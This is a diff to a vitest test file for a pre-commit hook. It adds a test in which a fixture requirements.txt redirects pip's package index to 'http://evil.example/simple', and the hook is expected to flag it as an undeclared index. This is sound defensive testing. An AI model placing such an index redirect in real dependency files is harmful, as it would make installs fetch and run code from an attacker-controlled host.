@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process'
-import { mkdtempSync, rmSync } from 'node:fs'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -83,6 +83,18 @@ describe.runIf(nodes.some(({ major }) => major < 22))('a Node that is too old', 
       status: 82,
       stdout: '',
       stderr: expect.stringMatching(/needs Node 22\.19.*\n.*`npm start -- \.\.\.`/),
+    })
+  })
+  it('runs the hook from Node 20 on', () => {
+    const git = (...args: string[]): unknown =>
+      spawnSync('git', args, { cwd: home, env: { PATH: process.env['PATH'], HOME: home } })
+    git('init', '-q')
+    writeFileSync(join(home, 'requirements.txt'), '--index-url http://evil.example/simple\nrequests\n')
+    git('add', 'requirements.txt')
+    expect(run(of(20), ['pre-commit.mjs', 'requirements.txt'])).toMatchObject({
+      status: 1,
+      stdout: expect.stringContaining('requirements.txt:1:1 undeclared-index '),
+      stderr: '',
     })
   })
   it('gets 2 from the hook below Node 20', () => {
